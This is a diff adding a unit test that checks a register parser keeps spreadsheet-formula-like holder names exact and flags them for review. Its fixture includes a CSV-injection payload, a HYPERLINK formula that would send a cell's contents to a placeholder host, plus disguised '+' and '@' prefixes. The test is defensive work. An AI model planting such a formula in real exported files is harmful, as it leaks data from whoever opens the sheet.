@@ -1000,3 +1000,24 @@ describe('properties', () => {
     );
   });
 });
+
+describe('names that begin like a spreadsheet formula', () => {
+  it('are imported exactly as given, and the import names them for a check', () => {
+    const formula = '=HYPERLINK("http://x.example/?"&A1,"Click")';
+    const csv = file(
+      line('F-1', 100, { name: `"${formula.replaceAll('"', '""')}"` }),
+      line('F-2', 100, { joint_names: '\u00a0+1' }),
+      line('F-3', 100, { name: '\uff20cmd' }),
+      line('OK', 700),
+    );
+    const { holders, formulaLike } = parseRegister(csv, 1000);
+    // Exact: the register and its export are data for the recount, not for a spreadsheet.
+    expect(holders[0]?.name).toBe(formula);
+    expect(serializeRegister(holders)).toContain(formula.replaceAll('"', '""'));
+    expect(formulaLike).toEqual([
+      { account: 'F-1', field: 'name' },
+      { account: 'F-2', field: 'joint_names' },
+      { account: 'F-3', field: 'name' },
+    ]);
+  });
+});
